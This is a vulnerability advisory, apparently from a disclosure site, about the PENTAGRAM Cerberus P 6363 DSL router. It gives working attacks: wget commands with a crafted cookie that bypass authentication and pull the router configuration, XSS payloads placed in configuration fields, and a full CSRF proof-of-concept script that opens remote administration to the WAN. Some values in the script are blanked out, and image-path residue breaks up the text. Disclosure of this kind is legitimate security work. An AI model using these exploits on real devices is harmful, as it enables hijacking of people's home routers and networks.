PENTAGRAM Cerberus P 6363 DSL Router Multiple Vulnerabilities

Credit: codis
Risk: High
Local: No
Remote: Yes

PENTAGRAM Cerberus P 6363 DSL Router Multiple Vulnerabilities Found by condis Vendor Site / Model: Firmware version: V5.07.28_PEN01 Software version: V3.01. Prolog Cerberus P 6363 is simple SOHO class router. Its producer claims that it may act as a 4 port switch and has an advanced firewall (...) Device management is only possible through WWW GUI and because of that, GUI was targeted and is subject of this raport. 2. Authentication Bypass (CWE-592) This bug is really trivial. All we need to do is set up "special" cookie before accessing GUI: condis@pandorum:~$ wget -t 1 -nv -O pento.cfg 2013-12-11 23:06:46 URL: [3663] -> "pento.cfg" [1] condis@pandorum:~$ head -n 5 pento.cfg <html> <head> <META http-equiv="Content-Type" content="text/html; charset=iso-8859-1"> <title>PENTAGRAM Cerberus P 6363</title> <script type="text/javascript"src="lang/b28n.js"></script> and now lets try some voodoo magic :x condis@pandorum:~$ wget -t 1 -nv -O pento.cfg--header="Cookie: admin:language=en" condis@pandorum:~$ head -n 5 pento.cfg #Please don't change this file by hand dhcp_static_lease3= sb/1/ofdm2gpo=0x66442200 wl_radius_port=1812 wl0.1_radius_port=1812 3. Multiple Cross Site Scripting (CWE-79) GUI has some simple function that filters out non-alphanumeric characters but it is written in JavaScript, and as we all know, implementing protection only on client-side is no protection at all. One of attack methods would be to turn off JavaScript or write some simple scripts (i.e.: using curl, wget, etc) that won't interpret JS code like web browser does. Second method (which is preferred by me) is to make configuration backup; modify it manually changing relevant variables/directives and then reupload it back to the device. 3.1 Setting WI-FI Password wl_wpa_psk=wifi_password";alert('XSS');// This code will be executed on index page. 3.2 Setting URL Filtrationfilter_url0=,0-6,0-0,on,foo");alert('XSS');// If "filter_url_mode" is disabled, we must change it to "deny" or "pass". Code injected here will beexecuted in Security Settings -> URL Filter Setting page. 3.3 Setting MAC Address Filtration filter_mac0=DE:AD:DE:AD:DE:AD,0-6,0-0,on,gangbang');alert('xss');// If "filter_mac_mode" variable is disabled, we must change it to "deny" or "pass". Code injected here will be executed in Security Settings -> MAC Address Filter Settings. Probably there are more XSS flaws, but I stopped searching after those three... 4. Cross Site Request Forgery (CWE-352) There is no mechanism preventing CSRF attacks by which it is possible to enforce any operation on the logged administrator. Below there is simple proof of concept which enables httpd to WAN (access from IP = : ----- cerber_csrf_poc.html --- <body><script> /** * * Cross Site Request Forger v1.1 * by condis * * Simple utility which aim is to help in * testing and exploiting CSRF flaws. * * If You don't know how to use it, then * do NOT use it :) * */ var CSRForger = function() { var f = document.createElement('form'); var obj = { 'target' : '', 'method' : 'post', 'debug' : false, 'addInput' : function(name, value) { var i = document.createElement('input'); = name; i.value = value; i.type = name == 'submit' ? 'submit' : (this.debug === 2) ? 'text' : 'hidden'; f.appendChild(i); }, 'addInputs' : function(post) { for (var field in post) this.addInput(field, post[field]); }, 'csrForge' : function() { f.method = (this.method == 'post') ? 'POST' : 'GET'; f.action =; = "gangbang"; var i = document.createElement('iframe'); = '100%'; = '500px'; if(this.debug === 0 || this.debug === false) { = 'none'; = 'none'; } =; i.src = f.action; document.body.appendChild(f); document.body.appendChild(i); document.getElementsByName('submit').item(0).click(); } }; return obj; }; var cerb = new CSRForger(); = ''; cerb.method = 'GET';cerb.addInputs({ 'GO' : 'system_remote.asp', 'RMEN' : '1', 'port' : '8080','IP' : '', 'submit' : 'go go power rangers' }); cerb.csrForge(); </script></body> ----- cerber_csrf_poc.html --- 5. Epilogue I tried to estalish a dialogue with vendor (07.12.2013) but they didn't respond for five days (probably they don't give a fuck about security) so I decided to publish all bugs. Also, what's obvious there is no patch so best solution that I can think of now is to stop using P 6363 and try other version. (P 6362 has different firmware and at first glance it looked better).Vote for this issue:


Thanks for you vote!


Thanks foryou comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm'}} CET+1
{{ x.comment }}

Copyright 2021,


Back to Top